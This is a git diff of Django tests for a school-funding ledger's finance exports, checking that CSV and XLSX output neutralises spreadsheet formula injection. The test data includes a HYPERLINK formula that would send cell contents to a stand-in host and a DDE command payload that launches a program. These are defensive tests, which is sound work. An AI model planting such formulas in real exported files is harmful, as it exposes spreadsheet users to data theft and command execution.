@@ -1,5 +1,7 @@
-"""Exports for finance: columns, figures, formula injection neutralised in CSV and XLSX,
-no pupil identity, and only the area's officer may download them."""
+"""The ledger's exports for finance: formula injection neutralised, the payments made in
+an area's year read from the ledger alone (its own reference and school for each award),
+and the XLSX writer read back by two readers. (The officer's downloads are tested with
+their pages, in requests/tests/test_exports.py.)"""
 
 import csv
 import datetime as dt
@@ -7,30 +9,23 @@ import io
 from decimal import Decimal
 
 import pytest
-from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from budgets import xlsx
-from budgets.exports import PAYMENTS_DUE_HEADERS, PAYMENTS_MADE_HEADERS, safe_text
-from budgets.services import payment_record, payment_reverse
+from budgets.exports import (
+    PAYMENTS_MADE_HEADERS,
+    Sheet,
+    payments_made,
+    safe_text,
+    to_csv,
+    to_xlsx,
+)
+from budgets.services import allocation_create, payment_record, payment_reverse
+from budgets.tests.spreadsheets import NASTY, read_with_calamine
 from communities.tests.factories import CommunityFactory, SchoolFactory, area, make_officer
-from kentlocality.financial_years import financial_year_of, year_label
-from requests.services import handoff_acknowledge
-from requests.tests.approvals import approve
-from requests.tests.factories import make_chair
+from kentlocality.financial_years import apportion_by_days, financial_year_of, year_label
 
 pytestmark = pytest.mark.django_db
-
-NASTY = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
-    "+SUM(1,2)",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "\tTAB=1",
-    "\r=CR",
-    "  =SPACED()",
-]
 
 
 @pytest.mark.parametrize("value", NASTY)
@@ -43,154 +38,72 @@ def test_ordinary_text_is_left_alone(value):
     assert safe_text(value) == value
 
 
-@pytest.fixture
-def officer():
-    return make_officer(area("North"), full_name="Olu Officer")
+def award(school, reference: str, amount: str = "8000.00", days_ago: int = 10):
+    """An award committed in the ledger from plain values, as a decision commits one."""
+    decided = timezone.localdate() - dt.timedelta(days=days_ago)
+    end = decided + dt.timedelta(days=300)
+    return allocation_create(
+        community_id=school.community_id,
+        school_id=school.pk,
+        reference=reference,
+        amount=Decimal(amount),
+        start_date=decided,
+        end_date=end,
+        decided_on=decided,
+        shares=apportion_by_days(Decimal(amount), decided, end),
+    )
 
 
-@pytest.fixture
-def paid(officer):
-    """Two approvals in the area (one paid then partly reversed), one in another area."""
+def test_payments_made_come_from_the_ledger_alone():
+    officer = make_officer(area("North"), full_name="Olu Officer")
+    oak = SchoolFactory(name="Oak Primary School", urn=118999)
+    award(oak, "RFR-2026-000007")
+    elsewhere = SchoolFactory(community=CommunityFactory(area=area("East")))
+    award(elsewhere, "RFR-2026-000008")
     today = timezone.localdate()
-    first = approve(school=SchoolFactory(name="Oak Primary School", urn=118999))
-    handoff_acknowledge(actor=officer, request_id=first.pk)
-    payment = payment_record(
+    first = payment_record(
         actor=officer,
-        request_id=first.pk,
+        reference="RFR-2026-000007",
         amount=Decimal("3000.00"),
         paid_on=today,
         finance_reference=NASTY[0],
         method="advance",
     )
-    payment_reverse(actor=officer, payment_id=payment.pk, reason="=cmd|' /C calc'!A0")
+    payment_reverse(actor=officer, payment_id=first.payment.pk, reason="=cmd|' /C calc'!A0")
     payment_record(
         actor=officer,
-        request_id=first.pk,
-        amount=Decimal("2000.00"),
+        reference="RFR-2026-000008",
+        amount=Decimal("100.00"),
         paid_on=today,
-        finance_reference="+FIN-2",
+        finance_reference="FIN-EAST",
         method="one_off",
     )
-    second = approve()
-    east = approve(school=SchoolFactory(community=CommunityFactory(area=area("East"))))
-    return first, second, east
-
-
-def get(client, name: str, area_name: str = "North", **params):
-    return client.get(reverse(f"budgets:{name}", args=[area(area_name).pk]), params)
-
-
-def read_csv(response) -> list[list[str]]:
-    text = response.content.decode("utf-8-sig")
-    return list(csv.reader(io.StringIO(text)))
-
-
-def test_payments_due_csv(client, officer, paid):
-    first, second, east = paid
-    client.force_login(officer)
-    response = get(client, "export_due_csv")
-    assert response.status_code == 200
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert "attachment;" in response["Content-Disposition"]
-    rows = read_csv(response)
-    assert rows[0] == PAYMENTS_DUE_HEADERS
-    by_reference = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
-    assert set(by_reference) == {first.reference, second.reference}
-    assert east.reference not in by_reference  # another area's request
-    row = by_reference[first.reference]
-    assert row["School"] == "Oak Primary School" and row["School URN"] == "118999"
-    assert row["Amount approved"] == "8000.00"
-    assert row["Paid so far"] == "2000.00" and row["Still to pay"] == "6000.00"
-    assert row["Payment due by"] == first.handoff.payment_due_date.isoformat()
-    assert row["Payment status"] == "On track"
-    assert row["Acknowledged on"] == timezone.localdate().isoformat()
-    assert by_reference[second.reference]["Acknowledged on"] == ""
-
-
-def test_payments_made_csv_neutralises_formulas(client, officer, paid):
-    client.force_login(officer)
-    rows = read_csv(get(client, "export_made_csv"))
-    assert rows[0] == PAYMENTS_MADE_HEADERS
-    made = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
-    assert [m["Amount"] for m in made] == ["3000.00", "-3000.00", "2000.00"]
-    assert made[0]["Finance reference"] == "'" + NASTY[0]
-    assert made[1]["Note"] == "'=cmd|' /C calc'!A0"
-    assert made[1]["Reversal of payment dated"] == timezone.localdate().isoformat()
-    assert made[2]["Finance reference"] == "'+FIN-2"
-    assert made[2]["Method"] == "One-off payment" and made[0]["Method"] == "Schools' advance"
-    assert {m["Recorded by"] for m in made} == {"Olu Officer"}
-    for m in made:
-        for column, value in m.items():
-            if column != "Amount":  # amounts are numbers: "-3000.00" is a number
-                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column
-
-
-def test_the_workbook_has_both_sheets_typed_and_neutralised(client, officer, paid):
-    client.force_login(officer)
-    year = financial_year_of(timezone.localdate())
-    response = get(client, "export_xlsx", year=year)
-    assert response.status_code == 200
-    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    workbook = load_workbook(io.BytesIO(response.content))
-    assert workbook.sheetnames == ["Payments due", f"Payments made {year_label(year)}"]
-    due, made = workbook.worksheets
-    assert [c.value for c in due[1]] == PAYMENTS_DUE_HEADERS
-    assert [c.value for c in made[1]] == PAYMENTS_MADE_HEADERS
-    assert due.max_row == 3 and made.max_row == 4
-    amounts = [made.cell(row=r, column=6) for r in range(2, 5)]
-    assert [c.value for c in amounts] == [3000, -3000, 2000]
-    assert all(c.data_type == "n" and "£" in c.number_format for c in amounts)
-    assert made.cell(row=2, column=1).is_date
-    for row in made.iter_rows(min_row=2):
-        for cell in row:
-            assert cell.data_type != "f", f"{cell.coordinate} is a formula"
-            if isinstance(cell.value, str):
-                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
-    assert made.cell(row=2, column=8).value == "'" + NASTY[0]
-
-
-def test_exports_carry_no_pupil_identity(client, officer, paid):
-    first = paid[0]
-    client.force_login(officer)
-    texts = [
-        get(client, "export_due_csv").content.decode("utf-8-sig"),
-        get(client, "export_made_csv").content.decode("utf-8-sig"),
+    year = financial_year_of(today)
+    sheet = payments_made(area("North").pk, year)
+    assert sheet.title == f"Payments made {year_label(year)}"
+    assert sheet.headers == PAYMENTS_MADE_HEADERS
+    assert [row[:6] for row in sheet.rows] == [
+        [today, "RFR-2026-000007", "Oak Primary School", 118999, oak.community.name, Decimal("3000.00")],
+        [today, "RFR-2026-000007", "Oak Primary School", 118999, oak.community.name, Decimal("-3000.00")],
+    ]  # fmt: skip
+    assert sheet.rows[1][6:] == [
+        "Schools' advance",
+        NASTY[0],
+        today,
+        "=cmd|' /C calc'!A0",
+        "Olu Officer",
     ]
-    workbook = load_workbook(io.BytesIO(get(client, "export_xlsx").content))
-    texts.append(
-        " ".join(str(c.value) for ws in workbook for row in ws.iter_rows() for c in row if c.value)
-    )
-    for text in texts:
-        for identity in (first.first_name, first.last_name, first.upn):
-            assert identity not in text
-
-
-def test_a_past_financial_year_has_no_payments_made(client, officer, paid):
-    client.force_login(officer)
-    year = financial_year_of(timezone.localdate()) - 1
-    rows = read_csv(get(client, "export_made_csv", year=year))
-    assert rows == [PAYMENTS_MADE_HEADERS]
-    # A nonsense year falls back to the current one rather than failing.
-    assert len(read_csv(get(client, "export_made_csv", year="nonsense"))) == 4
-
-
-def test_only_the_areas_officer_downloads(client, officer, paid):
-    first = paid[0]
-    for person in (make_officer(area("East")), first.created_by, make_chair(first.community)):
-        client.force_login(person)
-        for name in ("exports", "export_due_csv", "export_made_csv", "export_xlsx"):
-            assert get(client, name).status_code == 404, (person, name)
-    client.force_login(officer)
-    page = get(client, "exports")
-    assert page.status_code == 200
-    assert reverse("budgets:export_xlsx", args=[area("North").pk]) in page.content.decode()
+    rows = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8-sig"))))
+    assert rows[0] == PAYMENTS_MADE_HEADERS
+    assert [row[7] for row in rows[1:]] == ["'" + NASTY[0]] * 2
+    assert rows[2][9] == "'=cmd|' /C calc'!A0"
 
 
 def test_the_xlsx_writer_reads_back_cell_for_cell():
-    """Values repeated down a column are written once each (budgets.xlsx caches a column's
-    distinct values): every row still gets its own value, blanks stay blank, and text no
-    XML can carry (control characters, U+FFFE, U+FFFF) is dropped rather than breaking
-    the file; carriage returns survive."""
+    """Every row gets its own value, blanks stay blank, text no XML can carry (control
+    characters, U+FFFE, U+FFFF) is dropped rather than breaking the file, and carriage
+    returns survive (as Excel writes them, _x000D_, which calamine reads and openpyxl
+    leaves as it is)."""
     day = dt.date(2026, 4, 1)
     rows = [
         ["Oak", Decimal("10.50"), day, None, " spaced ", 7, "a\r\nb"],
@@ -198,18 +111,25 @@ def test_the_xlsx_writer_reads_back_cell_for_cell():
         ["Oak", Decimal("10.50"), dt.date(2026, 4, 2), "x\x02y\uffff", "=1+1", True, "\ufffe"],
     ]
     headers = ["Name", "Amount", "Date", "Note", "Other", "Number", "Lines"]
-    content = xlsx.workbook([xlsx.Sheet("Sheet", headers, rows, frozenset({1}))], text=safe_text)
+    content = to_xlsx([Sheet("Sheet", headers, rows, frozenset({1}))])
     sheet = load_workbook(io.BytesIO(content)).active
     assert [c.value for c in sheet[1]] == headers and sheet[1][0].font.b
+    assert sheet.freeze_panes == "A2"
     read = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
     assert read == [
-        ["Oak", 10.5, dt.datetime(2026, 4, 1), None, " spaced ", 7, "a\r\nb"],
-        ["A&B <Ltd>", -10.5, dt.datetime(2026, 4, 1), None, None, 7, "c\rd"],
+        ["Oak", 10.5, dt.datetime(2026, 4, 1), None, " spaced ", 7, "a_x000D_\nb"],
+        ["A&B <Ltd>", -10.5, dt.datetime(2026, 4, 1), None, None, 7, "c_x000D_d"],
         ["Oak", 10.5, dt.datetime(2026, 4, 2), "xy", "'=1+1", True, None],
     ]
     assert all("£" in sheet.cell(row=r, column=2).number_format for r in (2, 3, 4))
+    assert all(sheet.cell(row=r, column=3).is_date for r in (2, 3, 4))
+    assert read_with_calamine(content)["Sheet"][1:] == [
+        ["Oak", 10.5, day, "", " spaced ", 7.0, "a\r\nb"],
+        ["A&B <Ltd>", -10.5, day, "", "", 7.0, "c\rd"],
+        ["Oak", 10.5, dt.date(2026, 4, 2), "xy", "'=1+1", True, ""],
+    ]
 
 
 def test_the_xlsx_writer_wants_one_value_a_header():
     with pytest.raises(ValueError):
-        xlsx.workbook([xlsx.Sheet("Sheet", ["A", "B"], [["a", "b"], ["a"]])])
+        to_xlsx([Sheet("Sheet", ["A", "B"], [["a", "b"], ["a"]])])
